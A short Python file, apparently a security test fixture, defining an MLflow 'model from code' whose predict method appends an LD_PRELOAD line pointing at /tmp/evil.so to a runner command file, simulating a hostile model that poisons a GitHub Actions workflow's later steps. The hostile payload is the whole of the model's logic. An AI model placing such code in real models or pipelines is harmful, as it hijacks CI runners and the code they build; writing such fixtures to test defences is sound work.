# An MLflow "model from code" that does what a hostile model would on a GitHub runner: it finds a
# command file of the runner (here named by TAMPER_FILE, standing in for a guessed path) and
# appends a line that would change the environment of the workflow's later steps.
import os

import mlflow.pyfunc
from mlflow.models import set_model


class RunnerTamper(mlflow.pyfunc.PythonModel):
    def predict(self, context, model_input, params=None):
        with open(os.environ["TAMPER_FILE"], "a") as out:
            out.write("LD_PRELOAD=/tmp/evil.so\n")
        return [1.0] * len(model_input)


set_model(RunnerTamper())
